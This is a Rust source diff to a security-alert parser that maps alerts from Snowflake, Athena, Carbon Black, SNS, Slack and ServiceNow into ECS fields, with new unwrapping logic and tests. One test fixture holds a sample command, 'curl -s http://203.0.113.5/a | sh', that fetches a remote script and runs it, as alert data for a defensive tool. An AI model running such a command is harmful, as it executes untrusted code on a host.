@@ -82,7 +82,8 @@ pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
     // A line that is not JSON at all is raw log text: the records of one audit event (which
     // may be interleaved with others) become one alert, at the position of their first line.
     let mut out: Vec<Vec<Result<Alert, BadAlert>>> = Vec::new();
-    let mut raw: Vec<(String, usize, String, String)> = Vec::new(); // key, slot, position, text
+    let mut raw: Vec<(usize, String, String)> = Vec::new(); // slot, position, text
+    let mut by_event: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
     for (i, line) in text.lines().enumerate() {
         let l = line.trim().trim_start_matches('\u{feff}');
         if l.is_empty() {
@@ -96,20 +97,25 @@ pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
                 reason: format!("not valid JSON: {e}"),
                 excerpt: excerpt(l),
             })]),
-            Err(_) => match audit_event_key(l).and_then(|k| raw.iter_mut().find(|r| r.0 == k)) {
-                Some(r) => {
-                    r.3.push('\n');
-                    r.3.push_str(l);
+            Err(_) => {
+                let key = audit_event_key(l);
+                match key.as_ref().and_then(|k| by_event.get(k)) {
+                    Some(&r) => {
+                        raw[r].2.push('\n');
+                        raw[r].2.push_str(l);
+                    }
+                    None => {
+                        if let Some(k) = key {
+                            by_event.insert(k, raw.len());
+                        }
+                        raw.push((out.len(), pos, l.to_owned()));
+                        out.push(Vec::new());
+                    }
                 }
-                None => {
-                    let key = audit_event_key(l).unwrap_or_else(|| format!("line {i}"));
-                    raw.push((key, out.len(), pos, l.to_owned()));
-                    out.push(Vec::new());
-                }
-            },
+            }
         }
     }
-    for (_, slot, pos, text) in raw {
+    for (slot, pos, text) in raw {
         out[slot].push(raw_event(&text, &pos));
     }
     out.into_iter().flatten().collect()
@@ -595,6 +601,34 @@ fn get_path_mut<'a>(root: &'a mut Map<String, Json>, path: &str) -> Option<&'a m
     Some(cur)
 }
 
+/// A wrapper of one key around an event none of the readers took as it stood (an API's
+/// `{"data": {…}}`, ServiceNow's `{"result": {…}}`, a webhook body's `{"alert": {…}}`): the
+/// event inside, when it names a process. Tried only after every reader, so a product whose
+/// own shape has such a wrapper (a Cybereason response, a Datadog signal) keeps its reader.
+fn wrapped_event(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
+    let (k, inner) = obj.iter().next().filter(|_| obj.len() == 1)?;
+    if ![
+        "data", "result", "alert", "body", "payload", "detail", "record",
+    ]
+    .contains(&k.as_str())
+        || !inner.is_object()
+    {
+        return None;
+    }
+    let a = from_json(inner.clone(), "").ok()?;
+    let named = ["command_line", "executable"].iter().any(|f| {
+        a.doc
+            .get("process")
+            .and_then(|p| p.get(*f))
+            .and_then(Json::as_str)
+            .is_some_and(|v| !v.is_empty())
+    });
+    match a.doc {
+        Json::Object(m) if named => Some(m),
+        _ => None,
+    }
+}
+
 /// An event embedded as text in a document none of the readers knows: the first string (at
 /// most six levels down) that is a JSON object, or a fenced code block (```) holding one or
 /// holding raw log text, that reads as an event naming a process.
@@ -800,7 +834,9 @@ pub fn from_json(doc: Json, position: &str) -> Result<Alert, BadAlert> {
     });
     if !process_named
         && !ecs.contains_key("powershell")
-        && let Some(mut inner) = embedded_event(&doc)
+        && let Some(mut inner) = wrapped_event(obj)
+            .or_else(|| wrapped_event(&ecs))
+            .or_else(|| embedded_event(&doc))
     {
         for k in ["host", "user", "rule", "threat", "@timestamp"] {
             if let Some(v) = ecs.get(k) {
@@ -3256,6 +3292,67 @@ mod tests {
     }
 
     #[test]
+    fn query_results_watchlist_hits_and_events_embedded_as_text_map_to_ecs() {
+        let cmd = |a: &Alert| {
+            a.doc["process"]["command_line"]
+                .as_str()
+                .unwrap_or("")
+                .to_owned()
+        };
+        // Snowflake's SQL API: columns by name, the event itself as JSON text in `RAW`.
+        let sf = json!({"statementHandle": "01b", "resultSetMetaData": {"rowType": [{"name": "HOSTNAME"}, {"name": "RAW"}]},
+            "data": [["web-1", "{\"process\": {\"command_line\": \"bash -c id\", \"executable\": \"/usr/bin/bash\"}}"]]});
+        let r = from_json_expanded(sf, "x");
+        assert_eq!(r.len(), 1);
+        let a = r[0].as_ref().unwrap();
+        assert_eq!(cmd(a), "bash -c id");
+        assert_eq!(a.position, "x, row 1");
+        // Athena: the first row is the header.
+        let ath = json!({"ResultSet": {"Rows": [
+            {"Data": [{"VarCharValue": "device_hostname"}, {"VarCharValue": "process_cmd_line"}, {"VarCharValue": "parent_process_file_path"}]},
+            {"Data": [{"VarCharValue": "db-2"}, {"VarCharValue": "/bin/sh -c /opt/dba/backup.sh"}, {"VarCharValue": "/usr/sbin/cron"}]}]}});
+        let a = from_json_expanded(ath, "x").remove(0).unwrap();
+        assert_eq!(cmd(&a), "/bin/sh -c /opt/dba/backup.sh");
+        assert_eq!(a.doc["process"]["parent"]["name"], "cron");
+        // A Carbon Black EDR watchlist hit: one alert per process document.
+        let cb = json!({"type": "watchlist.hit.process", "watchlist_name": "osascript from caches", "docs": [
+            {"process_name": "osascript", "cmdline": "osascript", "path": "/usr/bin/osascript", "hostname": "MBA-1",
+             "os_type": "osx", "username": "ann", "parent_path": "/Users/ann/Library/Caches/com.apple.x/helper",
+             "segment_id": 1, "unique_id": "u-1"}]});
+        let a = from_json_expanded(cb, "x").remove(0).unwrap();
+        assert_eq!(a.doc["process"]["executable"], "/usr/bin/osascript");
+        assert_eq!(a.doc["process"]["parent"]["name"], "helper");
+        assert_eq!(a.doc["host"]["os"]["type"], "macos");
+        assert_eq!(a.doc["rule"]["name"], "osascript from caches");
+        // An SNS notification: the published event is the JSON text under `Message`.
+        let sns = json!({"Type": "Notification", "TopicArn": "arn:aws:sns:x", "Message":
+            "{\"process\": {\"command_line\": \"curl -s http://203.0.113.5/a | sh\"}, \"host\": {\"name\": \"b-1\"}}"});
+        let a = from_json(sns, "x").unwrap();
+        assert_eq!(a.doc["host"]["name"], "b-1");
+        // A chat message with the event in a fenced code block, the host in its text.
+        let slack = json!({"text": "osquery alert on MBA-7", "blocks": [{"type": "section", "text": {"type": "mrkdwn",
+            "text": "```json\n{\"hostIdentifier\": \"MBA-7\", \"name\": \"pe\", \"action\": \"added\", \"columns\": {\"cmdline\": \"/bin/bash /Users/x/.hidden/run.sh\", \"path\": \"/bin/bash\", \"pid\": \"5\", \"parent\": \"1\"}}\n```"}}]});
+        let a = from_json(slack, "x").unwrap();
+        assert_eq!(cmd(&a), "/bin/bash /Users/x/.hidden/run.sh");
+        // A ticket whose description is `Label: value` lines: the child process is the process.
+        let sir = json!({"result": {"number": "SIR1", "description": "Rule fired.\nHost: SQL-4\nAccount: CORP\\svc-sql\nParent process: C:\\Program Files\\SQL\\SQLAGENT.EXE -i X\nProcess: C:\\Windows\\System32\\cmd.exe /c \"powershell -File D:\\DBA\\a.ps1\"\nChild process: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File D:\\DBA\\a.ps1\n"}});
+        let a = from_json(sir, "x").unwrap();
+        assert!(
+            cmd(&a).starts_with("C:\\Windows\\System32\\WindowsPowerShell"),
+            "{}",
+            a.doc
+        );
+        assert_eq!(
+            a.doc["process"]["parent"]["executable"],
+            "C:\\Windows\\System32\\cmd.exe"
+        );
+        assert_eq!(a.doc["host"]["name"], "SQL-4");
+        assert_eq!(a.doc["user"]["name"], "svc-sql");
+        // Text that reads as nothing stays unreadable.
+        assert!(from_json(json!({"note": "```\nhello there, nothing here\n```"}), "x").is_err());
+    }
+
+    #[test]
     fn the_process_title_gives_the_command_line_when_nothing_else_does() {
         let a = from_json(json!({"process": {"title": "sh -c /Users/a/dev/App/build/Script-1.sh", "args": null, "executable": null,
             "command_line": null}, "host": {"os": {"type": "macos"}}}), "x").unwrap();
@@ -3571,7 +3668,11 @@ mod tests {
         assert_eq!(cb.doc["process"]["parent"]["name"], "powershell.exe");
         assert_eq!(cb.doc["user"]["domain"], "CONTOSO");
         assert_eq!(cb.doc["host"]["os"]["type"], "windows");
-        assert_eq!(cb.doc["threat"]["technique"]["id"], json!(["T1105"]));
+        // `ATTACK_T1059_001`: Carbon Black's tag for T1059.001.
+        assert_eq!(
+            cb.doc["threat"]["technique"]["id"],
+            json!(["T1105", "T1059.001"])
+        );
     }
 
     #[test]
